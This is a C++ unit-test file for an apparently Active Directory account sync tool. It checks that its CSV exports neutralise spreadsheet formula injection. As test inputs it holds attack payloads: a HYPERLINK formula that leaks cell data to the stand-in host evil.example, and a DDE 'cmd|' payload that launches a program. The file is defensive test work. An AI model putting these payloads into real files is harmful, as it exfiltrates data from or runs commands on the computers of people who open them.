// CSV exports: what a spreadsheet shows must be the data, never a formula.
#include "coordinator/csv_export.h"

#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace adsync {
namespace {

using ::testing::HasSubstr;

TEST(FormatAccountsCsv, QuotesFieldsForSpreadsheets) {
  adsync::v1::ListAccountsResponse r;
  auto* a = r.add_accounts();
  a->set_domain("DISTRICT");
  a->set_sam_account_name("frontdesk1");
  a->set_display_name("Desk, \"Front\"");
  a->set_outcome("ambiguous");
  a->add_candidate_person_ids("t-a");
  a->add_candidate_person_ids("t-b");
  const std::string csv = FormatAccountsCsv(r);
  EXPECT_THAT(
      csv,
      HasSubstr(
          "domain,sam_account_name,user_principal_name,mail,display_name"));
  EXPECT_THAT(csv, HasSubstr("DISTRICT,frontdesk1,,,\"Desk, "
                             "\"\"Front\"\"\",false,ambiguous,,t-a t-b,"));
}

// Whoever can edit an AD user controls its display name, mail and UPN; a
// spreadsheet opening the export must show them as text, never run them.
TEST(FormatAccountsCsv, NeutralizesSpreadsheetFormulas) {
  adsync::v1::ListAccountsResponse r;
  auto* a = r.add_accounts();
  a->set_domain("DISTRICT");
  a->set_sam_account_name("@SUM(1+1)");
  a->set_user_principal_name("+1-555@district.org");
  a->set_mail("-2+3@district.org");
  a->set_display_name("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
  a->set_object_guid("\t=1+1");
  a->set_person_id("\r=1+1");
  const std::string csv = FormatAccountsCsv(r);
  const std::string row = csv.substr(csv.find('\n') + 1);
  EXPECT_EQ(row,
            "DISTRICT,\"'@SUM(1+1)\",\"'+1-555@district.org\","
            "\"'-2+3@district.org\","
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\","
            "false,,\"'\r=1+1\",,\"'\t=1+1\"\n");
  // Only the first character matters: inner signs are ordinary text.
  a->Clear();
  a->set_mail("a=b@c-d.org");
  a->set_display_name("Smith-Jones");
  EXPECT_THAT(FormatAccountsCsv(r), HasSubstr(",,a=b@c-d.org,Smith-Jones,"));
}

TEST(FormatPreviewCsv, OneRowPerIdentityWithWhatK12PanelHoldsNow) {
  adsync::v1::PreviewOrgResponse p;
  auto* c = p.add_changes();
  c->set_kind(adsync::v1::PreviewChange::CHANGED);
  c->set_person_id("p-1");
  c->set_person_name("=cmd|' /C calc'!A0");  // names come from K12Panel/SIS
  auto* now = c->add_current();
  now->set_domain("DISTRICT");
  now->set_sam_account_name("old");
  now->set_object_guid("AA-1");
  now->set_enabled(true);
  auto* gone = c->add_current();
  gone->set_domain("DISTRICT");
  gone->set_sam_account_name("gone");
  gone->set_object_guid("bb-2");
  auto* renamed = c->add_proposed();
  *renamed = *now;
  renamed->set_sam_account_name("new");
  renamed->set_object_guid("aa-1");  // GUIDs pair case-insensitively
  const std::string csv = FormatPreviewCsv(p);
  EXPECT_EQ(csv,
            "person_change,person_id,person_name,identity_change,domain,"
            "sam_account_name,upn,sid,object_guid,enabled,was_domain,"
            "was_sam_account_name,was_upn,was_sid,was_enabled\n"
            "changed,p-1,\"'=cmd|' /C calc'!A0\",changed,DISTRICT,new,,,aa-1,"
            "true,DISTRICT,old,,,true\n"
            "changed,p-1,\"'=cmd|' /C calc'!A0\",removed,DISTRICT,gone,,,bb-2,"
            "false,,,,,\n");
}

}  // namespace
}  // namespace adsync
